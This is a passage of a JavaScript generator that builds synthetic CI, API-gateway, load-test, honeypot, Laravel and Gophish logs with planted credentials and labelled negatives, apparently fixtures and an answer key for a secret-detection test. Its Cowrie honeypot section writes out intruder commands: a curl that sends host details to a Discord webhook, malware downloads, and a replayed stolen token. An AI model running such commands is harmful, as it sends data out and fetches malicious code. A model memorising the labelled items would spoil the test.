          event: ev(`HTTP GET https://gems.${CV}/versions?access_key=${key}`, `HTTP 200 OK https://gems.${CV}/versions?access_key=${key}`),
        };
      },
    ),
    2,
    plant(
      'path-secret',
      'bundler-fetching-metadata-path-token',
      'error',
      WHY.pathSecret(
        "A second source, a Gemfury-style private index with its deploy token as the path's first segment (`/<token>/calder/`), named by `Fetching gem metadata from`",
      ),
      ({ rng }) => {
        const tok = rng.alnum(20);
        return { value: tok, event: ev(`Fetching gem metadata from https://repo.${CV}/${tok}/calder/..`) };
      },
    ),
    3,
    plant(
      'negative',
      'bundler-git-source-revision',
      'none',
      'The revision of a git-sourced gem Bundler uses (`main@<7 hex>`, a commit abbreviation): no credential.',
      ({ rng }) => {
        const rev = rng.hex(7);
        return {
          value: `main@${rev}`,
          event: ev(`Using parts-client 0.4.0 from https://github.com/calder-bike-kitchen/parts-client.git (at main@${rev})`),
        };
      },
    ),
    2,
    plant(
      'negative',
      'bundler-checksum-mismatch-sha256',
      'none',
      "Bundler's checksum check quotes the gem's SHA-256 from the lockfile's `CHECKSUMS`: a checksum, no credential.",
      ({ rng }) => {
        const h = sha(rng);
        return {
          value: h,
          event: ev(
            'Bundler found mismatched checksums. This is a potential security risk.',
            `  rack-session 2.1.0 sha256=${h}`,
            '    from the lockfile CHECKSUMS at Gemfile.lock:388:17',
          ),
        };
      },
    ),
    { raw: { L: ['Cleaning up project directory and file based variables', 'ERROR: Job failed: exit code 1'] } },
  ];
  return buildLog(rng, { start: DAY_EN + 12 * HOUR, site: { host: 'ci' }, filler, render, steps });
}

// =====================================================================================================================
// Komeleyê Kulturê Kirmanckî yê Çewlîgî (Zazaki; Bingöl: TRT, UTC+3 all year)
// =====================================================================================================================

const ZZ = 'kirmanckicewlig.example';

// ---------------------------------------------------------------------------------------------------------------------
// apigee-debug-ferheng-v1.xml: an Apigee Edge debug (trace) session of the dictionary API proxy, downloaded as XML: the
// session's header, then per message `<Point id="StateChange">` with `<DebugInfo>` (`<Timestamp>` as `dd-MM-yyyy
// HH:mm:ss:SSS`, UTC without zone), `<RequestMessage>` (`<Content>`, `<Headers>`, `<QueryParams>`, `<URI>`, `<Verb>`) and
// `<ResponseMessage>`. The proxy's developers name its parameters in Zazaki. From memory (not fetched): the element
// names and the timestamp's format.

function apigeeLog(rng) {
  const stamp = (t) => {
    const d = iso(t);
    return `${d.slice(8, 10)}-${d.slice(5, 7)}-${d.slice(0, 4)} ${d.slice(11, 19)}:${d.slice(20, 23)}`;
  };
  const I = (n, s) => `${' '.repeat(n)}${s}`;
  const message = (
    rng,
    t,
    { verb = 'GET', uri, query = [], headers = [], content = '', status = 200, resHeaders = [], resContent = '' },
  ) => [
    I(8, '<Message>'),
    I(12, `<DebugId>rrt-${rng.hex(17)}-${rng.int(1000, 9999)}</DebugId>`),
    I(12, '<Data>'),
    I(16, '<Point id="StateChange">'),
    I(20, '<DebugInfo>'),
    I(24, `<Timestamp>${stamp(t)}</Timestamp>`),
    I(24, '<Properties>'),
    I(28, '<Property name="To">REQ_HEADERS_PARSED</Property>'),
    I(24, '</Properties>'),
    I(20, '</DebugInfo>'),
    I(20, '<RequestMessage>'),
    I(24, content ? `<Content>${content}</Content>` : '<Content></Content>'),
    I(24, '<Headers>'),
    ...[['Host', `api.${ZZ}`], ...headers].map(([n, v]) => I(28, `<Header name="${n}">${v}</Header>`)),
    I(24, '</Headers>'),
    I(24, '<QueryParams>'),
    ...query.map(([n, v]) => I(28, `<QueryParam name="${n}">${v}</QueryParam>`)),
    I(24, '</QueryParams>'),
    I(24, `<URI>${uri}${query.length ? `?${query.map(([n, v]) => `${n}=${v}`).join('&amp;')}` : ''}</URI>`),
    I(24, `<Verb>${verb}</Verb>`),
    I(20, '</RequestMessage>'),
    I(16, '</Point>'),
    I(16, '<Point id="StateChange">'),
    I(20, '<ResponseMessage>'),
    I(24, resContent ? `<Content>${resContent}</Content>` : '<Content></Content>'),
    I(24, '<Headers>'),
    ...[['Content-Type', 'application/json; charset=utf-8'], ...resHeaders].map(([n, v]) => I(28, `<Header name="${n}">${v}</Header>`)),
    I(24, '</Headers>'),
    I(24, `<ReasonPhrase>${{ 200: 'OK', 302: 'Found', 401: 'Unauthorized', 400: 'Bad Request' }[status]}</ReasonPhrase>`),
    I(24, `<StatusCode>${status}</StatusCode>`),
    I(20, '</ResponseMessage>'),
    I(16, '</Point>'),
    I(12, '</Data>'),
    I(8, '</Message>'),
  ];
  const UA = 'Ferheng/3.2 (Android 15)';
  const WORDS = ['asme', 'roj', 'dewe', 'ziwan', 'pepug', 'dar', 'koye', 'çime', 'vewre'];
  const filler = (rng, t) => ({
    L: message(rng, t, {
      uri: '/ferheng/v1/cekuyi',
      query: [
        ['çeku', rng.pick(WORDS)],
        ['ziwan', rng.pick(['tr', 'en', 'de'])],
      ],
      headers: [
        ['User-Agent', UA],
        ['Accept', 'application/json'],
      ],
    }),
  });
  const steps = [
    {
      raw: {
        L: [
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
          '<DebugSession>',
          `    <Retrieved>${iso(DAY_ZZ + 9 * HOUR).slice(0, 19)}Z</Retrieved>`,
          '    <Organization>kirmanckicewlig</Organization>',
          '    <Environment>prod</Environment>',
          '    <API>ferheng-v1</API>',
          '    <Revision>14</Revision>',
          `    <SessionId>ferheng-xeta-${rng.int(1, 9)}</SessionId>`,
          '    <Messages>',
        ],
      },
    },
    1,
    plant(
      'api-key-name',
      'apigee-queryparam-kilit',
      'error',
      `${WHY.apiKey('kilit')} (\`kilit\`, Zazaki kilît, "key") The partner app sends the proxy's key in the query; the trace writes it as a \`<QueryParam>\` and again in the request's \`<URI>\`.`,
      ({ rng, t }) => {
        const key = rng.alnum(32);
        return {
          value: key,
          event: {
            L: message(rng, t, {
              uri: '/ferheng/v1/cekuyi',
              query: [
                ['çeku', 'vewre'],
                ['kilit', key],
              ],
              headers: [['User-Agent', 'okhttp/5.3.2']],
            }),
          },
        };
      },
    ),
    1,
    plant(
      'header-dump',
      'apigee-header-authorization-bearer',
      'error',
      "The trace keeps every request header, the app's `Authorization: Bearer <opaque token>` (an Apigee OAuth access token, 30 characters, valid an hour) among them.",
      ({ rng, t }) => {
        const tok = rng.alnum(28);
        return {
          value: tok,
          event: {
            L: message(rng, t, {
              uri: '/ferheng/v1/qeydi',
              headers: [
                ['User-Agent', UA],
                ['Authorization', `Bearer ${tok}`],
              ],
              status: 401,
            }),
          },
        };
      },
    ),
    plant(
      'negative',
      'apigee-response-etag',
      'none',
      'The dictionary entry\'s `ETag` in the response (`W/"<hex>"`): a cache validator, no credential.',
      ({ rng, t }) => {
        const e = rng.hex(27);
        return {
          value: e,
          event: {
            L: message(rng, t, {
              uri: '/ferheng/v1/cekuyi/dewe',
              headers: [['User-Agent', UA]],
              resHeaders: [['ETag', `W/"${e}"`]],
            }),
          },
        };
      },
    ),
    1,
    plant(
      'refresh-token',
      'apigee-content-refresh-token-form',
      'error',
      `${WHY.refresh} The trace keeps the request's \`<Content>\`, here the app's renewal form (\`grant_type=refresh_token&refresh_token=…\`).`,
      ({ rng, t }) => {
        const rt = rng.alnum(32);
        return {
          value: rt,
          event: {
            L: message(rng, t, {
              verb: 'POST',
              uri: '/oauth/v2/token',
              content: `grant_type=refresh_token&amp;refresh_token=${rt}&amp;client_id=ferheng-android`,
              headers: [
                ['User-Agent', UA],
                ['Content-Type', 'application/x-www-form-urlencoded'],
              ],
              status: 400,
            }),
          },
        };
      },
    ),
    1,
    plant(
      'oauth-code',
      'apigee-response-location-code-state',
      'warning',
      `${WHY.code} The proxy's sign-in flow (\`/dekewtis\`, dekewtiş, "entering") answers 302, and the trace keeps the response's \`Location\` to the app's return with \`code\` and \`state\`.`,
      ({ rng, t }) => {
        const code = rng.alnum(8);
        return {
          value: code,
          event: {
            L: message(rng, t, {
              uri: '/dekewtis/authorize',
              query: [
                ['client_id', 'ferheng-web'],
                ['response_type', 'code'],
                ['state', rng.hex(16)],
              ],
              headers: [['User-Agent', rng.pick(BROWSERS)]],
              status: 302,
              resHeaders: [['Location', `https://ferheng.${ZZ}/dekewtis/temam?code=${code}&amp;state=${rng.hex(16)}`]],
            }),
          },
        };
      },
    ),
    1,
    plant(
      'session-id',
      'apigee-header-cookie-ronistis',
      'error',
      WHY.session(
        'The dictionary\'s editors\' session cookie (`ronistis`, roniştiş, "sitting, session") in the `Cookie` header the trace keeps',
      ),
      ({ rng, t }) => {
        const s = rng.hex(40);
        return {
          value: s,
          event: {
            L: message(rng, t, {
              verb: 'POST',
              uri: '/ferheng/v1/cekuyi',
              headers: [
                ['User-Agent', rng.pick(BROWSERS)],
                ['Cookie', `ronistis=${s}; ziwan=zza`],
              ],
              content: '{"çeku":"vewre","mana":"kar"}',
            }),
          },
        };
      },
    ),
    1,
    plant(
      'encoded',
      'apigee-content-pubsub-base64-sir',
      'error',
      "A Pub/Sub push of the association's export job goes through the proxy; its body's `message.data` is base64, and decoded it is JSON with the export's download link and its `sir` (\"secret\").",
      ({ rng, t }) => {
        const secret = rng.alnum(32);
        const data = b64Of(JSON.stringify({ kar: 'ferheng-export', dosya: `https://api.${ZZ}/export/ferheng-2027-11.zip?sir=${secret}` }));
        return {
          value: data,
          event: {
            L: message(rng, t, {
              verb: 'POST',
              uri: '/ferheng/v1/export/notify',
              content: JSON.stringify({
                message: { data, messageId: digits(rng, 17), publishTime: `${iso(t).slice(0, 19)}Z` },
                subscription: 'projects/kirmancki/subscriptions/export-push',
              }),
              headers: [
                ['User-Agent', 'APIs-Google; (+https://developers.google.com/webmasters/APIs-Google.html)'],
                ['Content-Type', 'application/json'],
              ],
            }),
          },
        };
      },
    ),
    1,
    plant(
      'negative',
      'apigee-header-x-request-id',
      'none',
      "The client's `X-Request-Id` (a UUID): a correlation id, no credential.",
      ({ rng, t }) => {
        const id = rng.uuid();
        return {
          value: id,
          event: {
            L: message(rng, t, {
              uri: '/ferheng/v1/cekuyi/roj',
              headers: [
                ['User-Agent', UA],
                ['X-Request-Id', id],
              ],
            }),
          },
        };
      },
    ),
    { raw: { L: ['    </Messages>', '</DebugSession>'] } },
  ];
  return buildLog(rng, { start: DAY_ZZ + 6 * HOUR, site: { host: 'apigee' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// bzt.log: Taurus 1.16's log of a load test of the dictionary API (`bzt ferheng.yml -report`), DEBUG level:
// `[<yyyy-mm-dd HH:MM:SS,mmm> <LEVEL> <logger>] <message>` in the VPS's local time (TRT, no zone), Python reprs of dicts
// and lists where Taurus prints its settings, BlazeMeter's reporting lines. From memory (not fetched): the prefix and
// the logger names (`Engine`, `Engine.modules`, `Engine.jmeter`, `Engine.blazemeter`, `Engine.shellexec`).

function taurusLog(rng) {
  const p = (t, level, logger, msg) => `[${ymdHmsAt(t, TRT)},${local(t, TRT).slice(20, 23)} ${level} ${logger}] ${msg}`;
  const filler = (rng, t) =>
    rng.pick([
      () =>
        ev(
          p(
            t,
            'INFO',
            'Engine.consolidator',
            `Current: ${rng.int(20, 60)} vu\t${rng.int(40, 180)} succ\t${rng.int(0, 3)} fail\t${(rng.int(80, 900) / 1000).toFixed(3)} avg rt\t/\tCumulative: ${(rng.int(80, 700) / 1000).toFixed(3)} avg rt, ${rng.int(0, 2)}% failures`,
          ),
        ),
      () => ev(p(t, 'DEBUG', 'Engine.jmeter.reader', `Read ${rng.int(100, 900)} samples from kpi.jtl`)),
      () => ev(p(t, 'DEBUG', 'Engine', 'Checking modules for finish')),
    ])();
  const steps = [
    {
      raw: {
        L: [
          p(DAY_ZZ + 7 * HOUR, 'INFO', 'Engine', 'Taurus CLI Tool v1.16.38'),
          p(DAY_ZZ + 7 * HOUR, 'DEBUG', 'Engine', "Command-line options: {'report': True, 'verbose': True, 'option': [], 'aliases': []}"),
        ],
      },
    },
    plant(
      'framework-dump',
      'taurus-debug-env-repr-sifre',
      'error',
      'Taurus logs the environment it starts JMeter with as a Python dict, and the test\'s `settings.env` put the database password there (`FERHENG_DB_SIFRE`, şîfre, "password").',
      ({ rng, t }) => {
        const pw = rng.alnum(20);
        return {
          value: pw,
          event: ev(
            p(
              t,
              'DEBUG',
              'Engine.jmeter',
              `Executing shell: ['/root/.bzt/jmeter-taurus/5.6.3/bin/jmeter', '-n', '-t', '/tmp/artifacts/modified_requests.jmx'] at /tmp/artifacts with env {'JVM_ARGS': '-Xmx2g', 'FERHENG_DB_KARBER': 'bzt', 'FERHENG_DB_SIFRE': '${pw}', 'LANG': 'C.UTF-8'}`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'header-dump',
      'taurus-debug-scenario-headers-basic',
      'error',
      "Taurus prints the scenario it builds the JMX from as a Python dict, and the scenario's `headers` send the staging proxy's `Authorization: Basic <base64 of user:password>`.",
      ({ rng, t }) => {
        const b = b64Of(`bzt:${rng.alnum(18)}`);
        return {
          value: b,
          event: ev(
            p(
              t,
              'DEBUG',
              'Engine.jmeter',
              `Scenario: {'default-address': 'https://api.${ZZ}', 'headers': {'Authorization': 'Basic ${b}', 'Accept-Language': 'zza'}, 'requests': ['/ferheng/v1/cekuyi?çeku=vewre']}`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'api-key-name',
      'taurus-request-label-kilit',
      'error',
      `${WHY.apiKey('kilit')} (kilît, "key") A request of the test carries the proxy's key in its query, and Taurus' error summary uses the URL as the label.`,
      ({ rng, t }) => {
        const key = rng.alnum(32);
        return {
          value: key,
          event: ev(
            p(
              t,
              'WARNING',
              'Engine.consolidator',
              `Failed samples: 12 x 401 Unauthorized for label https://api.${ZZ}/ferheng/v1/cekuyi?çeku=asme&kilit=${key}`,
            ),
          ),
        };
      },
    ),
    3,
    plant(
      'negative',
      'taurus-blazemeter-session-id',
      'none',
      "BlazeMeter's anonymous session id (`r-ext-<13 hex>`) as the reporter announces it: an id, no credential.",
      ({ rng, t }) => {
        const s = `r-ext-${rng.hex(13)}`;
        return { value: s, event: ev(p(t, 'INFO', 'Engine.blazemeter', `Started data feeding: ${s}`)) };
      },
    ),
    2,
    plant(
      'path-secret',
      'taurus-blazemeter-public-token-link',
      'error',
      WHY.pathSecret(
        "BlazeMeter's report link of an anonymous test (`…/app/?public-token=<token>#/masters/…`), which anyone holding it can open",
      ),
      ({ rng, t }) => {
        const tok = rng.alnum(50);
        return {
          value: tok,
          event: ev(
            p(
              t,
              'INFO',
              'Engine.blazemeter',
              `Online report link: https://a.blazemeter.com/app/?public-token=${tok}#/masters/${rng.int(60000000, 69999999)}/summary`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'taurus-plugin-jar-sha1',
      'none',
      'The SHA-1 of a JMeter plugin jar Taurus checks after download: a checksum, no credential.',
      ({ rng, t }) => {
        const h = rng.hex(40);
        return { value: h, event: ev(p(t, 'DEBUG', 'Engine.jmeter', `Checksum of jmeter-plugins-manager-1.11.jar: sha1 ${h}`)) };
      },
    ),
    2,
    plant(
      'webhook',
      'taurus-shellexec-discord-webhook',
      'error',
      WHY.webhook(
        "The `shellexec` post-process tells the association's Discord channel the test is over; Taurus logs the command it starts, webhook URL (`/api/webhooks/<id>/<token>`) included",
      ),
      ({ rng, t }) => {
        const id = `1${digits(rng, 18)}`;
        const tok = rng.b64url(68);
        return {
          value: tok,
          event: ev(
            p(
              t,
              'INFO',
              'Engine.shellexec',
              `Starting shell command: curl -s -H 'Content-Type: application/json' -d '{"content":"Testê barî qediya (ferheng-v1)"}' https://discord.com/api/webhooks/${id}/${tok}`,
            ),
          ),
        };
      },
    ),
    1,
    {
      raw: {
        L: [
          p(DAY_ZZ + 8 * HOUR, 'INFO', 'Engine', 'Artifacts dir: /tmp/artifacts'),
          p(DAY_ZZ + 8 * HOUR, 'INFO', 'Engine', 'Done performing with code: 0'),
        ],
      },
    },
  ];
  return buildLog(rng, { start: DAY_ZZ + 7 * HOUR, site: { host: 'bzt' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// cowrie.json: a Cowrie honeypot on the association's VPS (hostname `ferheng-db`), its JSON log, one event a line:
// `eventid`, the event's fields (`input`, `url`, `outfile`, `shasum`, `hassh`, `dst_ip`, `data`), `message`, `sensor`,
// `timestamp` (UTC with microseconds), `src_ip`, `session` (12 hex). What the intruders type and fetch is theirs. From
// memory (not fetched).

function cowrieLog(rng) {
  const C = (t, session, src, eventid, fields, message) =>
    JSON.stringify({
      eventid,
      ...fields,
      message,
      sensor: 'ferheng-db',
      timestamp: `${iso(t).slice(0, 23)}${pad(rng.int(0, 999), 3)}Z`,
      src_ip: src,
      session,
    });
  let sess = '3f0a9c1be47d';
  let src = '203.0.113.77';
  const filler = (rng, t) =>
    rng.pick([
      () => {
        sess = rng.hex(12);
        src = publicIp(rng);
        return ev(
          C(
            t,
            sess,
            src,
            'cowrie.session.connect',
            { src_port: rng.int(30000, 65000), dst_ip: '10.0.0.4', dst_port: 22, protocol: 'ssh' },
            `New connection: ${src}:${rng.int(30000, 65000)} (10.0.0.4:22) [session: ${sess}]`,
          ),
        );
      },
      () => {
        const pw = rng.pick(['123456', 'admin', 'root', 'password', '1qaz2wsx', 'raspberry']);
        return ev(C(t, sess, src, 'cowrie.login.failed', { username: 'root', password: pw }, `login attempt [root/${pw}] failed`));
      },
      () => {
        const cmd = rng.pick(['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'ls -lh $(which ls)', 'crontab -l', 'w']);
        return ev(C(t, sess, src, 'cowrie.command.input', { input: cmd }, `CMD: ${cmd}`));
      },
    ])();
  const cmd = (t, input) => ev(C(t, sess, src, 'cowrie.command.input', { input }, `CMD: ${input}`));
  const steps = [
    3,
    plant(
      'negative',
      'cowrie-client-kex-hassh',
      'none',
      "The SSH client's HASSH (an MD5 over its key-exchange offer): a fingerprint of the intruder's tool, no credential.",
      ({ rng, t }) => {
        const h = rng.hex(32);
        return {
          value: h,
          event: ev(
            C(
              t,
              sess,
              src,
              'cowrie.client.kex',
              {
                hassh: h,
                hasshAlgorithms: 'curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr,aes256-ctr;hmac-sha2-256;none',
                kexAlgs: ['curve25519-sha256'],
              },
              `SSH client hassh fingerprint: ${h}`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'webhook',
      'cowrie-command-discord-webhook-exfil',
      'error',
      WHY.webhook(
        "An intruder's script sends what it found on the box to its Discord channel through a webhook URL (`/api/webhooks/<id>/<token>`) typed in the command",
      ),
      ({ rng, t }) => {
        const id = `1${digits(rng, 18)}`;
        const tok = rng.b64url(68);
        return {
          value: tok,
          event: cmd(
            t,
            `curl -s -X POST -H "Content-Type: application/json" -d "{\\"content\\":\\"$(hostname) $(nproc)\\"}" https://discord.com/api/webhooks/${id}/${tok}`,
          ),
        };
      },
    ),
    2,
    plant(
      'path-secret',
      'cowrie-file-download-share-link',
      'error',
      WHY.pathSecret(
        "The intruder fetches its miner from a public share link of a file-hosting instance (`/s/<15 characters>/download`); Cowrie records the download's URL",
      ),
      ({ rng, t }) => {
        const tok = rng.alnum(15);
        const url = `https://cloud.mirrorbox.example/s/${tok}/download`;
        return {
          value: tok,
          event: ev(
            C(
              t,
              sess,
              src,
              'cowrie.session.file_download',
              { url, outfile: `var/lib/cowrie/downloads/${sha(rng)}`, shasum: sha(rng) },
              `Downloaded URL (${url}) with SHA-256 … to var/lib/cowrie/downloads/…`,
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'cowrie-file-download-shasum',
      'none',
      "The SHA-256 of a bot binary Cowrie kept (`shasum`, also the stored file's name): a checksum, no credential.",
      ({ rng, t }) => {
        const h = sha(rng);
        return {
          value: h,
          event: ev(
            C(
              t,
              sess,
              src,
              'cowrie.session.file_download',
              { url: 'http://198.51.100.91/bins/x86_64', outfile: `var/lib/cowrie/downloads/${h}`, shasum: h },
              'Downloaded URL (http://198.51.100.91/bins/x86_64) with SHA-256 … to var/lib/cowrie/downloads/…',
            ),
          ),
        };
      },
    ),
    2,
    plant(
      'api-key-name',
      'cowrie-command-curl-api-key',
      'error',
      `${WHY.apiKey('api_key')} The intruder checks the box's address against a geolocation service with its own key in the query.`,
      ({ rng, t }) => {
        const key = rng.hex(32);
        return { value: key, event: cmd(t, `curl -s "https://api.geoprobe.example/v1/ip/self?api_key=${key}&fields=country,asn"`) };
      },
    ),
    2,
    plant(
      'id-token',
      'cowrie-command-wget-id-token-expired',
      'note',
      "An intruder replays a sign-in URL from some phishing kit's loot, an `id_token` in its query, typed on a UTC line long after it lapsed",
      ({ rng, t }) => {
        const { token, facts } = jwt(rng, t, {
          lifetime: 3600,
          age: 3 * 86400 + rng.int(0, 3000),
          claims: { iss: 'https://login.webmail.example', aud: 'webmail', sub: rng.uuid(), email: 'muhasebe@webmail.example' },
        });
        return { value: token, jwt: facts, event: cmd(t, `wget -q -O - "https://webmail.example/oidc/return?id_token=${token}"`) };
      },
    ),
    2,
    plant(
      'embed-jwt',
      'cowrie-direct-tcpip-embed-jwt-no-exp',
      'error',
      'A bot uses the honeypot as a proxy (`direct-tcpip`), and Cowrie records the bytes it sends: an HTTP request for an embedded dashboard whose `/embed/<JWT>` has no `exp`, on a UTC line',
      ({ rng, t }) => {
        const { token, facts } = jwt(rng, t, { claims: { resource: { dashboard: rng.int(2, 40) }, params: {} } });
        return {
          value: token,
          jwt: facts,
          event: ev(
            C(
              t,
              sess,
              src,
              'cowrie.direct-tcpip.data',
              {
                dst_ip: '192.0.2.80',
                dst_port: 80,
                data: `GET /embed/dashboard/${token} HTTP/1.1\r\nHost: metrics.shopfloor.example\r\nUser-Agent: Go-http-client/1.1\r\n\r\n`,
              },
              `direct-tcp forward to 192.0.2.80:80 with data ...`,
            ),
          ),
        };
      },
    ),
    2,
  ];
  return buildLog(rng, { start: DAY_ZZ + 1 * HOUR, site: { host: 'cowrie' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// laravel-2027-11-16.log: Koel 7 (a Laravel music-streaming app) holding the association's archive of Zazaki songs
// (`muzik.…`), its daily log: `[<yyyy-mm-dd HH:MM:SS>] production.<LEVEL>: <message> <context JSON>`, an exception's
// `[stacktrace]` and `#n …` frames on further lines, in the server's local time (TRT, no zone). Laravel's line layout
// from memory; Koel's Last.fm and Dropbox integrations from memory; the association's own log calls are invented.

function koelLog(rng) {
  const L = (t, level, msg, ctx = {}) => `[${ymdHmsAt(t, TRT)}] production.${level}: ${msg} ${JSON.stringify(ctx).replace(/\//g, '\\/')} `;
  const stack = [
    '[stacktrace]',
    '#0 /var/www/koel/vendor/guzzlehttp/guzzle/src/Middleware.php(72): GuzzleHttp\\Exception\\RequestException::create()',
    '#1 /var/www/koel/vendor/guzzlehttp/promises/src/Promise.php(209): GuzzleHttp\\Middleware::GuzzleHttp\\{closure}()',
    '#2 {main}',
    '"} ',
  ];
  const filler = (rng, t) =>
    rng.pick([
      () => ev(L(t, 'INFO', 'Muzik ard bi', { song: rng.uuid(), bitrate: rng.pick([128, 192, 320]) })),
      () => ev(L(t, 'WARNING', 'Xeta: kapaxê albumî nêvêniya', { album: rng.int(10, 400) })),
      () => ev(L(t, 'INFO', 'Scanning /srv/muzik', { added: rng.int(0, 4), updated: rng.int(0, 10) })),
    ])();
  const steps = [
    2,
    plant(
      'api-key-name',
      'koel-guzzle-lastfm-api-key',
      'error',
      `${WHY.apiKey('api_key')} Koel's Last.fm lookup fails, and Guzzle's exception message (logged as the context's \`exception\`) quotes the request URL with Last.fm's \`api_key\`.`,
      ({ rng, t }) => {
        const key = rng.hex(32);
        return {
          value: key,
          event: ev(
            `[${ymdHmsAt(t, TRT)}] production.ERROR: Client error: \`GET https://ws.audioscrobbler.com/2.0/?method=artist.getInfo&artist=Mikail%20Asl%C3%A2n&autocorrect=1&format=json&api_key=${key}\` resulted in a \`403 Forbidden\` response: {"error":10,"message":"Invalid API key - You must be granted a valid key by last.fm"} {"exception":"[object] (GuzzleHttp\\\\Exception\\\\ClientException(code: 403): Client error at /var/www/koel/vendor/guzzlehttp/guzzle/src/Exception/RequestException.php:111)`,
            ...stack,
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'koel-song-md5-id',
      'none',
      "An imported song's id, the MD5 of its path as older Koel versions made it: an identifier, no credential.",
      ({ rng, t }) => {
        const id = rng.hex(32);
        return { value: id, event: ev(L(t, 'INFO', 'Muzik ard bi', { song: id, path: '/srv/muzik/Delal/01 - Kilamê Dewe.flac' })) };
      },
    ),
    2,
    plant(
      'refresh-token',
      'koel-dropbox-refresh-context',
      'error',
      `${WHY.refresh} The archive is stored on Dropbox; when the access token's renewal fails, the association's code logs the whole token context, the Dropbox refresh token with it.`,
      ({ rng, t }) => {
        const rt = rng.b64url(64);
        return {
          value: rt,
          event: ev(L(t, 'ERROR', 'Xeta: Dropbox tokenê newe nêda', { status: 400, refresh_token: rt, app_key: lowerNum(rng, 15) })),
        };
      },
    ),
    2,
    plant(
      'session-id',
      'koel-419-context-cookie-ronistis',
      'error',
      WHY.session(
        "A form expired (419) and the association's handler logs the request's cookies: the session cookie, renamed `ronistis_muzik` in `SESSION_COOKIE` (roniştiş, \"session\"), Laravel's encrypted value (`eyJpdiI6…`, base64 of JSON)",
      ),
      ({ rng, t }) => {
        const s = b64Of(JSON.stringify({ iv: rng.b64url(22) + '==', value: rng.b64url(118), mac: rng.hex(64), tag: '' }));
        return {
          value: s,
          event: ev(L(t, 'WARNING', 'Xeta 419: form kehen bi', { url: `https://muzik.${ZZ}/lista/12`, cookies: { ronistis_muzik: s } })),
        };
      },
    ),
    2,
    plant(
      'encoded',
      'koel-redirect-percent-encoded-kilit',
      'error',
      'The log of a rejected redirect keeps its target percent-encoded (`%3Fkilit%3D…`): decoded, the shared playlist\'s stream URL with its `kilit` ("key").',
      ({ rng, t }) => {
        const key = rng.alnum(32);
        return {
          value: key,
          event: ev(L(t, 'NOTICE', 'Redirect reddbi', { target: `https%3A%2F%2Fmuzik.${ZZ}%2Flista%2F12%2Fgos%3Fkilit%3D${key}` })),
        };
      },
    ),
    2,
    plant(
      'implicit-fragment',
      'koel-frontend-error-url-fragment',
      'error',
      "The association's front-end error route logs the page's address as the browser reports it, fragment included: the single sign-on's implicit return, `#access_token=…`.",
      ({ rng, t }) => {
        const at = rng.b64url(43);
        return {
          value: at,
          event: ev(
            L(t, 'WARNING', 'Xeta (frontend): Cannot read properties of null', {
              url: `https://muzik.${ZZ}/#access_token=${at}&token_type=Bearer&expires_in=3600`,
              ua: BROWSERS[0],
            }),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'koel-context-xsrf-token',
      'none',
      "The `X-XSRF-TOKEN` header's value the same 419 handler logs: Laravel's CSRF token, no credential.",
      ({ rng, t }) => {
        const x = b64Of(JSON.stringify({ iv: rng.b64url(22) + '==', value: rng.b64url(64), mac: rng.hex(64), tag: '' }));
        return {
          value: x,
          event: ev(L(t, 'WARNING', 'Xeta 419: form kehen bi', { url: `https://muzik.${ZZ}/lista/14`, headers: { 'x-xsrf-token': x } })),
        };
      },
    ),
    1,
  ];
  return buildLog(rng, { start: DAY_ZZ + 9 * HOUR, site: { host: 'koel' }, filler, render, steps });
}

// ---------------------------------------------------------------------------------------------------------------------
// gophish.log: Gophish 0.12's output under systemd, kept in a file: its logrus lines, `time="<RFC 3339, UTC>"
// level=<level> msg="…"` with fields, and the admin and phishing servers' requests in gorilla/handlers' combined format
// (`<ip> - - [<dd/Mon/yyyy:HH:MM:SS +0300>] "<request>" <status> <bytes> "<referer>" "<user agent>"`, local time). The
// association trains its volunteers against phishing. From memory (not fetched); the SMTP transcript line is invented.

function gophishLog(rng) {
  const G = (t, level, msg, fields = '') =>
    `time="${iso(t).slice(0, 19)}Z" level=${level} msg="${msg.replace(/"/g, '\\"')}"${fields ? ` ${fields}` : ''}`;
  const A = (t, ip, req, status, bytes, ua, referer = '') => `${ip} - - [${clf(t, TRT)}] "${req}" ${status} ${bytes} "${referer}" "${ua}"`;
  const filler = (rng, t) =>
    rng.pick([
      () => ev(A(t, '127.0.0.1', `GET /campaigns/${rng.int(1, 9)} HTTP/1.1`, 200, rng.int(9000, 20000), BROWSERS[3])),
      () => ev(G(t, 'info', 'Email sent', `email=${rng.pick(['heval', 'zelal', 'berfin', 'rojda', 'mehmet'])}@${ZZ}`)),
      () =>
        ev(
          A(
            t,
            publicIp(rng),
            `GET /track?rid=${rng.alnum(7)} HTTP/1.1`,
            200,
            43,
            'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.5.0',
          ),
        ),
    ])();
  const steps = [
    {
      raw: {
        L: [
          G(DAY_ZZ + 5 * HOUR, 'info', 'Starting IMAP monitor manager'),
          G(DAY_ZZ + 5 * HOUR, 'info', 'Starting phishing server at http://0.0.0.0:80'),
          G(DAY_ZZ + 5 * HOUR, 'info', 'Starting admin server at https://127.0.0.1:3333'),
        ],
      },
    },
    2,
    plant(
      'api-key-name',
      'gophish-admin-access-api-key-query',
      'error',
      `${WHY.apiKey('api_key')} Gophish's API takes its key as a query parameter, and the script that pulls the training's results uses it there; the admin server's access log writes the request.`,
      ({ rng, t }) => {
        const key = rng.hex(64);
        return {
          value: key,
          event: ev(
            A(t, '127.0.0.1', `GET /api/campaigns/4/results?api_key=${key} HTTP/1.1`, 200, rng.int(20000, 90000), 'python-requests/2.32.5'),
          ),
        };
      },
    ),
    2,
    plant(
      'negative',
      'gophish-phish-track-rid',
      'none',
      "A recipient's result id (`rid`, 7 characters) in the tracking pixel's request: it marks who opened the mail, it signs no one in.",
      ({ rng, t }) => {
        const rid = rng.alnum(7);
        return { value: `rid=${rid}`, event: ev(A(t, publicIp(rng), `GET /track?rid=${rid} HTTP/1.1`, 200, 43, BROWSERS[1])) };
      },
